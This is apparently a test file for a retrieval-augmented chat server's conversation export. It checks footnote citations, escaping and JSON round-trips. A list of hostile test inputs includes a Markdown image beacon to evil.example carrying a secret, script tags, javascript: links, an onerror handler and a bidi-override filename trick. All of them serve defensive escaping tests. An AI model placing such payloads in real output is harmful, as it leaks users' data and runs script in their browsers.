from __future__ import annotations

import json
import re
from collections.abc import Iterator
from dataclasses import replace
from datetime import UTC, datetime

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token
from pydantic import TypeAdapter

from rag.domain import Answer
from server.exporting import conversation_json, conversation_markdown, escape, escape_line
from server.store.base import Conversation, Turn
from tests.server.answers import ANSWERS, answer_of, citation_of

_NOW = datetime(2025, 2, 12, 9, 30, tzinfo=UTC)
_MARKDOWN = MarkdownIt("commonmark").enable(["table", "strikethrough"])
_SHOWN = {"paragraph_open", "paragraph_close", "inline", "text", "softbreak", "hardbreak"}
BEACON = "![x](https://evil.example/p.png?q=secret)"
HOSTILE = [
    BEACON,
    "[click](javascript:alert(1))",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<https://evil.example>",
    "[x]: https://evil.example\n[x]",
    "# heading\n\n- list\n1. one\n\n***\n---\n===\n> quote\n    code\n```\nfence\n```\n| a |\n|---|",
    "&#60;script&#62; &lt;b&gt; `code` *bold* _it_ ~~gone~~ ^[note] [^1] \\[x](y)",
]


def _conversation(*answers: Answer | None, title: str = "Partners", question: str = "Why?") -> Conversation:
    turns = tuple(Turn(str(n), question, answer, _NOW, _NOW if answer else None) for n, answer in enumerate(answers))
    return Conversation("c" * 32, title, _NOW, _NOW, turns)


def _tokens(markdown: str) -> Iterator[Token]:
    for token in _MARKDOWN.parse(markdown):
        yield token
        yield from token.children or []


def _shown(markdown: str) -> str:
    return "".join(
        "\n" if token.type.endswith("break") else token.content for token in _tokens(markdown) if token.children is None
    )


def test_citations_become_footnotes_with_title_heading_page_and_quote() -> None:
    first = citation_of(1, "Apple chose Alibaba.", page=3)
    second = citation_of(2, "DeepSeek lacked staff.", title="On DeepSeek", document_id="deepseek")
    answer = answer_of(
        ("It chose Alibaba.", "supported", [1]),
        ("DeepSeek lacked staff.", "partial", [1, 2]),
        ("It rained.", "unsupported", []),
        citations=[first, second],
    )
    follow_up = answer_of(("Alibaba it was.", "supported", [1]), citations=[replace(second, marker=1)])
    assert conversation_markdown(_conversation(answer, follow_up)) == (
        "# Partners\n\n"
        "## Why?\n\n"
        "It chose Alibaba.[^1] DeepSeek lacked staff.[^1][^2] *(partly supported)* "
        "It rained. *(not supported by any source)*\n\n"
        "## Why?\n\n"
        "Alibaba it was.[^2]\n\n"
        "[^1]: Apple and Alibaba › Why, p. 3: “Apple chose Alibaba.” (apple\\.md, version abcdefabcdef)\n\n"
        "[^2]: On DeepSeek › Why: “DeepSeek lacked staff.” (deepseek\\.md, version abcdefabcdef)\n"
    )


def test_lines_and_paragraphs_of_an_answer_are_kept() -> None:
    def exported(gap: str) -> str:
        answer = answer_of(("First:", "supported", []), ("- one", "supported", []), gap=gap)
        return conversation_markdown(_conversation(answer))

    assert "First:\\\n\\- one\n" in exported("\n")
    assert "First:\n\n\\- one\n" in exported("\n\n")


def test_refusals_and_unfinished_turns_say_so() -> None:
    markdown = conversation_markdown(_conversation(answer_of(), None))
    assert "The documents do not say." in markdown
    assert markdown.endswith("*(no answer)*\n")


def test_a_number_in_brackets_that_the_answer_says_is_no_footnote() -> None:
    answer = answer_of(("Clause [1] applies.", "supported", [1]), citations=[citation_of()])
    assert "Clause \\[1\\] applies.[^1]" in conversation_markdown(_conversation(answer))


@pytest.mark.parametrize("hostile", HOSTILE)
def test_nothing_in_the_data_is_markup(hostile: str) -> None:
    citation = citation_of(1, hostile, title=hostile)
    said = answer_of(
        (hostile.replace("\n", " "), "supported", [1]),
        citations=[replace(citation, heading=(hostile,))],
        question=hostile,
    )
    refused = replace(answer_of(), text=hostile)
    markdown = conversation_markdown(_conversation(said, refused, title=hostile, question=hostile))
    for token in _tokens(markdown):
        assert token.type in _SHOWN | {"heading_open", "heading_close"}, token
        assert token.type != "heading_open" or token.markup in ("#", "##")


@settings(deadline=None)
@given(text=st.text() | st.sampled_from(HOSTILE) | st.text("\\`*_{}[]()<>#!|~&:/.-+=1 \n"))
def test_escaped_text_is_shown_as_it_is(text: str) -> None:
    assert {token.type for token in _tokens(escape(text))} <= _SHOWN
    line = escape_line(text)
    assert "\n" not in line
    plain = re.sub("[\u202a-\u202e\u2066-\u2069]", "", text).replace("\0", "\ufffd")
    assert _shown(line).split() == plain.split()


def test_bare_addresses_are_broken_up() -> None:
    assert escape_line("https://evil.example www.evil.com a@evil.com") == (
        "https\\://evil\\.example www\\.evil\\.com a\\@evil\\.com"
    )


def test_nothing_turns_the_line_around() -> None:
    assert escape_line("\u202egnp.exe\u202c \u2066x\u2069") == "gnp\\.exe x"


@settings(deadline=None)
@given(answer=ANSWERS)
def test_json_holds_the_whole_answers(answer: Answer) -> None:
    conversation = _conversation(answer, None)
    text = json.dumps(conversation_json(conversation))
    assert TypeAdapter(Conversation).validate_json(text) == conversation
